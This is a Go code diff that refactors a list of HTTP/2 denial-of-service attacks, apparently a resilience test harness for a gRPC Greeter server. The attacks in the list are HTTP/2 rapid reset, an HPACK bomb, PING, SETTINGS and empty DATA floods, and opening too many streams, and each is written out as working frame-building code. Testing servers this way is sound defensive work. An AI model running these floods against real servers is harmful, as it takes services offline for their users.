@@ -586,6 +586,21 @@ func (r *rawConn) headers(id uint32, end bool, path string, extra ...hpack.Heade
 	return r.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: r.block(path, extra...), EndStream: end, EndHeaders: true})
 }
 
+// streams returns the frames that open n Chat streams, each reset at once
+// when reset.
+func (r *rawConn) streams(n int, reset bool) []byte {
+	var b bytes.Buffer
+	fr := http2.NewFramer(&b, nil)
+	blk := r.block(greeterpb.GreeterChatProcedure)
+	for id := uint32(1); id < uint32(2*n); id += 2 {
+		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true})
+		if reset {
+			fr.WriteRSTStream(id, http2.ErrCodeCancel)
+		}
+	}
+	return b.Bytes()
+}
+
 // split writes a request's header block of more than 16 KiB as HEADERS
 // and CONTINUATION frames.
 func (r *rawConn) split(id uint32, blk []byte) {
@@ -664,8 +679,6 @@ func (r *rawConn) hold() string {
 	}
 }
 
-func repeat(b []byte, n int) []byte { return bytes.Repeat(b, n) }
-
 // envelope frames a message; compressed sets its flag.
 func envelope(compressed bool, msg []byte) []byte {
 	b := make([]byte, 5+len(msg))
@@ -717,14 +730,7 @@ var attackList = []attack{
 	}},
 	{"rapid reset", func(r *rawConn) string {
 		r.preface()
-		var b bytes.Buffer
-		fr := http2.NewFramer(&b, nil)
-		blk := r.block(greeterpb.GreeterChatProcedure)
-		for id := uint32(1); id < 2*5000; id += 2 {
-			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true})
-			fr.WriteRSTStream(id, http2.ErrCodeCancel)
-		}
-		wait := r.flood(b.Bytes(), 1)
+		wait := r.flood(r.streams(5000, true), 1)
 		defer wait()
 		return r.answer()
 	}},
@@ -742,7 +748,7 @@ var attackList = []attack{
 	{"HPACK bomb", func(r *rawConn) string {
 		r.preface()
 		blk := r.block(greeterpb.GreeterSayHelloProcedure, hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)})
-		blk = append(blk, repeat([]byte{0x80 | 62}, 100000)...)
+		blk = append(blk, bytes.Repeat([]byte{0x80 | 62}, 100000)...)
 		r.split(1, blk)
 		return r.answer()
 	}},
@@ -759,7 +765,7 @@ var attackList = []attack{
 	{"PING flood, never reading", func(r *rawConn) string {
 		r.preface()
 		// Write until the server stops reading or closes, reading nothing.
-		b := repeat(rawframe.Frame(http2.FramePing, 0, 0, make([]byte, 8)), 4096)
+		b := bytes.Repeat(rawframe.Frame(http2.FramePing, 0, 0, make([]byte, 8)), 4096)
 		for range 1000 {
 			if _, err := r.c.Write(b); err != nil {
 				var ne net.Error
@@ -773,26 +779,20 @@ var attackList = []attack{
 	}},
 	{"SETTINGS flood", func(r *rawConn) string {
 		r.preface()
-		wait := r.flood(repeat(rawframe.Frame(http2.FrameSettings, 0, 0, []byte{0, byte(http2.SettingMaxFrameSize), 0, 0, 0x40, 0}), 5000), 1)
+		wait := r.flood(bytes.Repeat(rawframe.Frame(http2.FrameSettings, 0, 0, []byte{0, byte(http2.SettingMaxFrameSize), 0, 0, 0x40, 0}), 5000), 1)
 		defer wait()
 		return r.answer()
 	}},
 	{"empty DATA flood", func(r *rawConn) string {
 		r.preface()
 		r.headers(1, false, greeterpb.GreeterLotsOfGreetingsProcedure)
-		wait := r.flood(repeat(rawframe.Frame(http2.FrameData, 0, 1, nil), 5000), 1)
+		wait := r.flood(bytes.Repeat(rawframe.Frame(http2.FrameData, 0, 1, nil), 5000), 1)
 		defer wait()
 		return r.answer()
 	}},
 	{"more streams than allowed", func(r *rawConn) string {
 		r.preface()
-		var b bytes.Buffer
-		fr := http2.NewFramer(&b, nil)
-		blk := r.block(greeterpb.GreeterChatProcedure)
-		for id := uint32(1); id < 2*300; id += 2 {
-			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true})
-		}
-		r.c.Write(b.Bytes())
+		r.c.Write(r.streams(300, false))
 		return r.answer()
 	}},
 	{"idle streams held open", func(r *rawConn) string {
